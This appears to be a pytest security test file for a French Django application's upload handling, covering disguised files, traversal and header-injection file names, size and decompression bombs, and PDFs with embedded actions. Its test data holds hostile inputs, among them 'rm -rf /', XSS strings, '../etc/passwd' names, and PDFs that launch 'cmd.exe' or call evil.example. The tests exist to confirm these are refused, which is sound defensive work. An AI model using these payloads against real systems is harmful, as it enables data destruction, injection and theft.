"""Files: what is sent under a false name or name, too large, folded upon itself, or meant to be opened by others.

Elsewhere: each kind examined by its content, active PDF, pictures drawn anew, bombs of PDF and XML, payslips, names
(tests/core/test_uploads.py); workbooks (test_workbooks.py); files that bomb once opened (tests/clauses/decp/test_files.py).
"""

import io
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from datetime import datetime, timedelta
from pathlib import Path
from queue import Queue
from threading import Event, Thread
from typing import Any
from uuid import uuid4

import pikepdf
import pytest
import time_machine
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from pikepdf import Array, Dictionary, Name, String

from beneficiaries.hours.models import Statement
from clauses.decp.models import FileReading
from clauses.procurement.models import AdviceRequest, Tender
from inclusiv.accounts.models import Organisation
from inclusiv.core import uploads
from inclusiv.core.forms import RESUMED
from inclusiv.core.refusals import Refused
from inclusiv.records.models import StoredFile
from tests.attacks.conftest import Attacker
from tests.clauses.decp.samples import contract, file_of
from tests.uploads import gzip_bomb, pdf
from tests.world import World

SCRIPTS = {
    "shell": b"#!/bin/sh\nrm -rf /\n",
    "page": b"<!doctype html><script>alert(1)</script>",
    "drawing": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "program": b"MZ\x90\x00\x03",
    "page behind a drawing": b"GIF89a/*<script>alert(1)</script>*/",
    "page before a PDF": b"<script>alert(1)</script>\n" + pdf("Relev\xe9"),
    "archive": b"PK\x03\x04" + b"\0" * 40,
    "nothing": b" ",
}
NAMES = (
    "../../../etc/passwd.pdf", "..\\..\\windows\\system32.pdf", "/etc/passwd.pdf", "C:\\autoexec.pdf",
    "facture\u202efdp.exe.pdf", "relev\u00e9\u0000.exe.pdf", "\U0001f4c4\U0001f1eb\U0001f1f7.pdf", "a%0D%0ASet-Cookie: x=y.pdf", '%22; x=%22.pdf',
    ".pdf.pdf", "CON.pdf", "<img src=x onerror=alert(1)>.pdf", "%2e%2e%2fpasswd.pdf",
)  # fmt: skip


class Paper(SimpleUploadedFile):
    """A file under the very name that is told: Django cleans it in its setter, a forged request does not."""

    name = ""


def entry(world: World, content: bytes, name: str) -> dict[str, Any]:
    """Return the form by which a facilitator enters October's statement with its paper."""
    lines = {f"heures-{one.pk}": "5" for one in (world.own.placement, world.own.planned)}
    paper = Paper(name, content, "application/pdf")
    given = {"submission": str(uuid4()), "received": "EMAIL", "received_on": "2025-10-14", "document": paper}
    return given | lines


def address(world: World) -> str:
    return reverse("hours:declare-for", args=[world.own.award.pk, "2025-10", world.own.employer.pk])


@pytest.mark.parametrize("content", SCRIPTS.values(), ids=SCRIPTS.keys())
def test_to_have_a_script_kept_under_the_name_of_a_pdf(
    world: World, browser: Attacker, content: bytes
) -> None:
    kept = StoredFile.objects.count()
    answer = browser.acting(world.cast.facilitator).post(address(world), entry(world, content, "releve.pdf"))
    assert (answer.status_code, "document" in answer.context["form"].errors) == (422, True)
    assert StoredFile.objects.count() == kept


@pytest.mark.parametrize("name", NAMES)
def test_to_write_elsewhere_or_to_fool_a_reader_by_the_name_of_a_file(
    world: World, browser: Attacker, name: str, storage: Path
) -> None:
    browser.acting(world.cast.facilitator)
    before = {path for path in storage.parent.rglob("*") if path.is_file()}
    sent = browser.post(address(world), entry(world, pdf("Octobre"), name))
    assert sent.status_code == 302, sent.context["form"].errors
    written = {path for path in storage.parent.rglob("*") if path.is_file()} - before
    assert all((storage / "files") in path.parents for path in written)
    assert all(path.name.isalnum() for path in written)
    statement = Statement.objects.exclude(document=None).latest("pk")
    assert statement.document is not None
    shown = statement.document.name
    assert not set(shown) & set("/\\\0\r\n\u202e"), shown
    answer = browser.get(reverse("hours:document", args=[statement.pk]))
    assert answer.headers["Content-Disposition"].startswith("attachment")
    assert "Set-Cookie" not in answer.headers
    assert answer.headers["Content-Type"] == "application/pdf"
    assert "<img src=x" not in browser.get(reverse("hours:statement", args=[statement.pk])).said


@pytest.mark.parametrize("length", [201, 300, 900])
def test_a_name_without_end_is_refused_in_words(world: World, browser: Attacker, length: int) -> None:
    name = "n" * (length - 4) + ".pdf"
    answer = browser.acting(world.cast.facilitator).post(address(world), entry(world, pdf("Octobre"), name))
    assert answer.status_code in {302, 422}
    if answer.status_code == 422:
        assert "trop long" in answer.said
    else:
        assert len(StoredFile.objects.latest("pk").name) <= 200


def test_what_was_sent_cannot_be_read_where_it_lies(world: World, browser: Attacker) -> None:
    """Papers of people lie encrypted, and no address leads to the storage."""
    stored = world.own.statement.document
    assert stored is not None
    with default_storage.open(stored.path) as kept:
        assert not kept.read().startswith(b"%PDF")
    browser.acting(world.cast.facilitator)
    for guess in (f"/files/{stored.path}", f"/media/{stored.path}", f"/static/{stored.path}", f"/static/../files/{stored.path}",
                  "/static/%2e%2e/secrets.env", "/static/..%2f..%2fmanage.py", "/static//etc/passwd"):  # fmt: skip
        assert browser.get(guess).status_code == 404, guess


class Endless(io.RawIOBase):
    """A body that says to be large and may not be read."""

    def readable(self) -> bool:
        return True

    def readinto(self, _buffer: Any) -> int:
        raise AssertionError("the body was read")


def heavy(client: Client, where: str, length: int) -> Any:
    """Send a form whose body is told to be that long."""
    told: dict[str, Any] = {"CONTENT_TYPE": "multipart/form-data; boundary=x", "CONTENT_LENGTH": str(length)}
    told["wsgi.input"] = Endless()
    return client.generic("POST", where, b"", **told)


def test_to_fill_the_disk_from_a_page_that_everybody_opens(world: World) -> None:
    for name in (
        "account_login",
        "accounts:join",
        "account_reset_password",
        "demo-sign-in",
        "mfa_login_webauthn",
    ):
        answer = heavy(Client(enforce_csrf_checks=True), reverse(name), 3 << 20)
        assert answer.status_code == 413, name
        assert "un fichier ne s’envoie qu’une fois connecté" in answer.content.decode()
    assert heavy(Client(), "/lien/x/", 50 << 20).status_code == 413


def test_to_break_a_page_that_everybody_opens_by_a_file(world: World) -> None:
    for name in ("account_login", "accounts:join", "account_reset_password", "demo-sign-in"):
        answer = Client().post(reverse(name), {"x": SimpleUploadedFile("a.txt", b"x")})
        assert answer.status_code == 413, name


def test_to_fill_the_disk_once_signed_in(world: World, browser: Attacker) -> None:
    browser.acting(world.cast.facilitator)
    assert heavy(browser, reverse("decp:read"), 65 << 20).status_code == 413
    assert heavy(browser, reverse("home"), 5 << 30).status_code == 413


def test_to_fill_the_disk_by_asking_and_withdrawing_without_end(
    world: World, browser: Attacker, settings: Any
) -> None:
    piece = pdf("Plan")
    settings.DAILY_UPLOAD_BYTES = int(2.5 * len(piece))
    browser.acting(world.cast.buyer)

    def asked() -> int:
        for request in AdviceRequest.objects.filter(status="ASKED", tender=world.own.draft):
            browser.post(reverse("procurement:advice-withdraw", args=[request.pk]))
        form = {"submission": str(uuid4()), "piece_1": SimpleUploadedFile("plan.pdf", piece)}
        answer = browser.post(reverse("procurement:ask-advice-on", args=[world.own.draft.pk]), form)
        return int(answer.status_code)

    assert [asked() for _ in range(3)] == [302, 302, 422]
    with time_machine.travel(timezone.now() + timedelta(days=1, minutes=1), tick=False):
        browser.acting(world.cast.buyer)
        assert asked() == 302


def test_to_fill_the_disk_by_what_is_refused_beside(
    world: World, browser: Attacker, settings: Any, storage: Path
) -> None:
    """Three pieces of which the last is one too many: nothing is kept, nor what came before it, which nobody counts."""
    papers = [pdf(f"Plan {rank}") for rank in (1, 2, 3)]
    settings.DAILY_UPLOAD_BYTES = int(2.5 * len(papers[0]))
    StoredFile.objects.update(sender_id=None)
    before = kept_in(storage)
    form: dict[str, Any] = {"submission": str(uuid4())}
    for rank, paper in enumerate(papers, start=1):
        form[f"piece_{rank}"] = SimpleUploadedFile(f"plan-{rank}.pdf", paper)
    AdviceRequest.objects.filter(tender=world.own.draft).update(status="WITHDRAWN", decided_at=timezone.now())
    browser.acting(world.cast.buyer)
    answer = browser.post(reverse("procurement:ask-advice-on", args=[world.own.draft.pk]), form)
    assert (answer.status_code, "n’est pas gardé" in answer.said) == (422, True)
    assert kept_in(storage) == before


def test_to_leave_a_file_behind_by_a_form_that_comes_back(
    world: World, browser: Attacker, storage: Path
) -> None:
    """What comes back to be read again is undone whole: so is the file that somebody hung on it."""
    before = kept_in(storage)
    AdviceRequest.objects.filter(tender=world.own.draft).update(status="WITHDRAWN", decided_at=timezone.now())
    form = {"submission": RESUMED, "piece_1": SimpleUploadedFile("plan.pdf", pdf("Plan"))}
    browser.acting(world.cast.buyer)
    browser.post(reverse("procurement:ask-advice-on", args=[world.own.draft.pk]), form)
    assert kept_in(storage) == before
    form["piece_1"] = SimpleUploadedFile("plan.json", file_of(contract()))
    browser.post(reverse("decp:read"), {"submission": RESUMED, "file": form["piece_1"]})
    assert kept_in(storage) == before


def kept_in(storage: Path) -> set[Path]:
    """Return the contents that lie in a storage, whether a row names them or not."""
    return {path for path in storage.rglob("*") if path.is_file()}


@pytest.mark.parametrize(
    "opening",
    [
        {"/S": Name.URI, "/URI": "https://evil.example/?qui=nadia"},
        {"/S": Name.GoTo, "/D": [0], "/Next": Dictionary(S=Name.URI, URI="https://evil.example/")},
        {"/S": Name.Thread, "/F": "\\\\evil.example\\partage", "/D": 0},
        {"/S": Name.Named, "/N": Name.Print},
    ],
    ids=["site", "site after a page", "share", "printer"],
)
def test_to_have_a_document_do_something_as_its_reader_opens_it(
    world: World, browser: Attacker, opening: dict[str, Any]
) -> None:
    """A buyer’s piece that leads its reader to a site tells who opens it, and when."""
    AdviceRequest.objects.filter(tender=world.own.draft).update(status="WITHDRAWN", decided_at=timezone.now())
    piece = SimpleUploadedFile("plan.pdf", pdf("Plan", opening=opening))
    form = {"submission": str(uuid4()), "piece_1": piece}
    browser.acting(world.cast.buyer)
    answer = browser.post(reverse("procurement:ask-advice-on", args=[world.own.draft.pk]), form)
    assert (answer.status_code, "une action" in answer.said) == (422, True)


def test_a_document_that_opens_on_one_of_its_pages_comes_through(world: World, browser: Attacker) -> None:
    AdviceRequest.objects.filter(tender=world.own.draft).update(status="WITHDRAWN", decided_at=timezone.now())
    piece = SimpleUploadedFile("plan.pdf", pdf("Plan", opening={"/S": Name.GoTo, "/D": [0, Name.Fit]}))
    form = {"submission": str(uuid4()), "piece_1": piece}
    browser.acting(world.cast.buyer)
    answer = browser.post(reverse("procurement:ask-advice-on", args=[world.own.draft.pk]), form)
    assert answer.status_code == 302


def test_a_file_of_fifty_megabytes_is_told_its_weight(world: World, browser: Attacker) -> None:
    browser.acting(world.cast.facilitator)
    file = SimpleUploadedFile("gros.json", b"[" + b" " * (50 << 20))
    answer = browser.post(reverse("decp:read"), {"submission": str(uuid4()), "file": file})
    assert answer.status_code == 422
    assert "la limite est de 20" in answer.said


def test_a_small_file_that_opens_into_ten_gigabytes_is_not_opened(world: World, browser: Attacker) -> None:
    """It is taken, since it begins as it should; its reading stops at the limit, in words."""
    browser.acting(world.cast.facilitator)
    kept = FileReading.objects.count()
    file = SimpleUploadedFile("bombe.json.gz", gzip_bomb(opened=1 << 30))
    answer = browser.post(reverse("decp:read"), {"submission": str(uuid4()), "file": file})
    assert answer.status_code in {302, 422}
    assert FileReading.objects.count() <= kept + 1


@pytest.mark.parametrize(
    "typed",
    [
        "\x00",
        "a\x00b",
        "\u202egnp.exe",
        "\ud83d\ude00"[:0] + "\U0001f600" * 60,
        "x" * 300,
        "<b>x</b>",
        "\ufeff\u200b",
    ],
)
def test_names_of_people_that_are_not_names(
    world: World, browser: Attacker, typed: str, at: datetime
) -> None:
    """Refused in words or kept as it is seen: never a breakdown, never markup."""
    form = {
        "submission": str(uuid4()),
        "first_name": typed,
        "last_name": typed,
        "birth_date": "1990-05-02",
        "sex": "F",
        "mobility": "UNKNOWN",
    }
    answer = browser.acting(world.cast.facilitator).post(reverse("people:new"), form)
    assert answer.status_code in {302, 422}
    page = browser.get(reverse("people:list"))
    assert page.status_code == 200
    assert "<b>x</b>" not in page.said
    assert "\u202e" not in page.said
    assert "\x00" not in page.said


@pytest.mark.parametrize("typed", ["\ufffe", "\uffff", "\ufdd0", "\U0001ffff", "\x0b"])
@pytest.mark.parametrize("form", ["docx", "pdf"])
def test_to_have_a_document_break_by_a_character_that_no_file_may_hold(
    world: World, browser: Attacker, typed: str, form: str
) -> None:
    """In the number, the object and the names: typed, or come in a file."""
    soiled = {"reference": f"A{typed}B", "title": f"École {typed} <b>&amp;</b>"}
    browser.acting(world.cast.buyer)
    Tender.objects.filter(pk=world.own.tender.pk).update(**soiled)
    Organisation.objects.filter(pk=world.own.buyer.pk).update(name=soiled["title"])
    answer = browser.get(reverse("texts:download", args=[world.own.tender.pk, "toutes-les-pieces", form]))
    assert answer.status_code == 200
    assert answer.headers["Content-Disposition"].startswith("attachment")


def test_to_keep_the_server_busy_by_files_to_examine(world: World, browser: Attacker) -> None:
    """Counted before a form reads them, whatever the rest of the form is worth."""
    address = reverse("procurement:ask-advice")
    browser.acting(world.cast.buyer)
    answers = [
        browser.post(address, {"piece_1": SimpleUploadedFile("p.pdf", b"%PDF-1.7 rien")}).status_code
        for _ in range(25)
    ]
    assert answers == [422] * 20 + [429] * 5


def test_to_make_everybody_wait_by_files_sent_together(monkeypatch: pytest.MonkeyPatch) -> None:
    """What cannot be examined at once is refused in words: the server keeps answering pages."""
    monkeypatch.setattr(uploads, "PATIENCE", 0)
    content = pdf("x")
    with ExitStack() as others:
        for person in range(uploads.EXAMINED_AT_ONCE):
            others.enter_context(examining_for(person))
        with uploads.sent_by(99), pytest.raises(Refused, match="en même temps"):
            uploads.examined(content, kind="pdf")
    with uploads.sent_by(99):
        assert uploads.examined(content, kind="pdf") == content


@contextmanager
def examining_for(person: int) -> Iterator[None]:
    """Hold a place for a file of somebody, as if it were being examined."""
    with uploads.sent_by(person), uploads.place("pdf"):
        yield


def test_to_hold_every_place_by_the_files_of_one_person(
    world: World, browser: Attacker, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The second file of somebody waits for the first, whatever the window or the hat; those of others pass."""
    monkeypatch.setattr(uploads, "PATIENCE", 0)
    AdviceRequest.objects.filter(tender=world.own.draft).update(status="WITHDRAWN", decided_at=timezone.now())
    browser.acting(world.cast.buyer)
    buyer = int(browser.session["_auth_user_id"])

    def asked() -> Any:
        form = {"submission": str(uuid4()), "piece_1": SimpleUploadedFile("plan.pdf", pdf("Plan"))}
        return browser.post(reverse("procurement:ask-advice-on", args=[world.own.draft.pk]), form)

    with examining_for(buyer):
        answer = asked()
        assert (answer.status_code, "en même temps" in answer.said) == (422, True)
    with examining_for(buyer + 1):
        assert asked().status_code == 302


def test_the_second_file_of_a_person_waits_for_the_first_and_another_person_does_not() -> None:
    """Three at the same instant: those of one person never overlap, and the other place is taken meanwhile."""
    first_in, other_in = Event(), Event()
    told: Queue[str] = Queue()

    def first() -> None:
        with examining_for(1):
            told.put("first in")
            first_in.set()
            assert other_in.wait(20)
            told.put("first out")

    def second() -> None:
        assert first_in.wait(20)
        with examining_for(1):
            told.put("second in")

    def other() -> None:
        assert first_in.wait(20)
        with examining_for(2):
            told.put("other in")
            other_in.set()

    threads = [Thread(target=one) for one in (first, second, other)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert [told.get_nowait() for _ in threads] + [told.get_nowait()] == [
        "first in", "other in", "first out", "second in",
    ]  # fmt: skip


def test_a_visitor_sends_no_file_however_small(world: World) -> None:
    """Nobody is there to count: it stopped the server."""
    paper = SimpleUploadedFile("a.pdf", pdf("x"))
    assert Client().post(reverse("account_login"), {"login": "x", "paper": paper}).status_code == 413


def written(book: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def clicked(action: Dictionary) -> bytes:
    """A page where a click anywhere goes to the page itself, 31 times, then does something."""
    book = pikepdf.new()
    book.add_blank_page()
    page = book.pages[0].obj
    for _ in range(31):
        action = Dictionary(S=Name.GoTo, D=Array([page, Name.Fit]), Next=action)
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 600, 800]), A=action)
    page.Annots = Array([book.make_indirect(link)])
    return written(book)


def attached() -> bytes:
    """A page with a pin that opens a program."""
    book = pikepdf.new()
    book.add_blank_page()
    program = book.make_stream(b"MZ", Type=Name.EmbeddedFile)
    paper = Dictionary(Type=Name.Filespec, F=String("facture.exe"), EF=Dictionary(F=program))
    pin = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 50, 50]), FS=paper)
    book.pages[0].obj.Annots = Array([book.make_indirect(pin)])
    return written(book)


def associated() -> bytes:
    """A document with a file of its own (PDF 2.0, /AF)."""
    book = pikepdf.new()
    book.add_blank_page()
    program = book.make_stream(b"MZ")
    paper = Dictionary(Type=Name.Filespec, F=String("facture.exe"), EF=Dictionary(F=program))
    book.Root.AF = Array([book.make_indirect(paper)])
    return written(book)


LIVE = {
    "a script": clicked(Dictionary(S=Name.JavaScript, JS=String("app.launchURL('http://evil.example')"))),
    "a command": clicked(Dictionary(S=Name.Launch, F=String("cmd.exe"))),
    "a pin": attached(),
    "an associated file": associated(),
}


@pytest.mark.parametrize("content", LIVE.values(), ids=LIVE.keys())
def test_to_send_a_document_that_acts_deep_down_or_carries_a_file(content: bytes) -> None:
    with pytest.raises(uploads.Unwelcome):
        uploads.examined(content, kind="pdf")


def test_to_keep_a_place_busy_by_a_document_of_a_million_lists() -> None:
    """Ten kilobytes that took five seconds and more."""
    book = pikepdf.new()
    book.add_blank_page()
    book.Root.X = pikepdf.Object.parse(b"[" + b"[]" * 2_100_000 + b"]")
    content = io.BytesIO()
    book.save(content, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    with pytest.raises(uploads.Unwelcome, match="trop long à lire"):
        uploads.examined(content.getvalue(), kind="pdf")
